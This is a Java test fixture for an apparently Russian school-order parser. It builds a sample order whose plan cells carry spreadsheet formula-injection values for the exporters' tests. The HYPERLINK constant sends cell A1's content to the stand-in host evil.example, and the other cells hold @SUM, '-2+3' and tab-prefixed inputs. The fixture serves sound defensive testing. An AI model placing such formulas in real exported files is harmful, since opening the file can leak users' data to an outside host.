package prikaz.app.export;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import prikaz.parser.OrderParser;
import prikaz.parser.model.Order;

/** A short order whose plan cells look like spreadsheet formulas, for the exporters' tests. */
final class HostileOrder {
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"нажмите\")";

  private HostileOrder() {}

  static Order parse() throws Exception {
    String text = """
        ШКОЛА
        ПРИКАЗ
        от 01.09.2023 № 1
        Об утверждении плана
        ПРИКАЗЫВАЮ:
        1. Утвердить план.
        Директор
        И.И. Иванов

        | № | Мероприятие | Срок | Ответственный | Результат |
        |---|---|---|---|---|
        | 1 | %s | май 2024 | +7 900 000-00-00 | @SUM(A1:A9) |
        | 2 | -2+3 | июнь 2024 | Иванов И.И. | \tвкладка |
        """.formatted(HYPERLINK);
    return OrderParser.builder().build()
        .parse(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), "hostile.txt");
  }
}
